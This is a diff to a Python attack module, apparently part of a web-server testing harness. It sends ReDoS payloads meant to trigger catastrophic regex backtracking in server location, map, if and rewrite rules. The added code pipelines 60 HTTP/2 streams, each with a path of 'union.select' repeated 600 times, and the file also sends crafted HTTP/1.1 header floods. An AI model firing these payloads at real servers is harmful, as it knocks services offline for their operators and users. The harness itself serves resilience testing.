@@ -1,6 +1,7 @@
 """Requests whose path or field causes catastrophic backtracking in a regular expression
 of the configuration (ReDoS), in location, map, if and rewrite."""
 
+import frames
 from attack import Attack
 
 ATTACK = Attack(configurations=("patterns",))
@@ -13,10 +14,24 @@ PATHS = [
 ]
 
 
+# As many requests of one connection as come at once.
+STREAMS = range(1, 121, 2)
+
+
 async def run(target):
     evil = b"X-One: " + b"a" * 40 + b"!\r\n"
+    path = b"/search?" + b"union.select" * 600 + b"m"
+    together = b"".join(frames.request(stream, frames.head(path)) for stream in STREAMS)
 
     async def ask(number):
+        if number % 8 == 0:
+            reader, writer = await target.http2(frames.opening())
+            writer.write(together)
+            try:
+                await frames.until_ended(reader, frames.Parser(), len(STREAMS), resets=True)
+            finally:
+                writer.transport.abort()
+            return
         reader, writer = await target.tls()
         try:
             writer.write(b"GET " + PATHS[number % len(PATHS)] + b" HTTP/1.1\r\nHost: localhost\r\n" + evil + b"\r\n")
@@ -24,4 +39,4 @@ async def run(target):
         finally:
             writer.transport.abort()
 
-    return f"{await target.repeat(8, ask)} requests, 8 at a time"
+    return f"{await target.repeat(8, ask)} connections, 8 at a time"
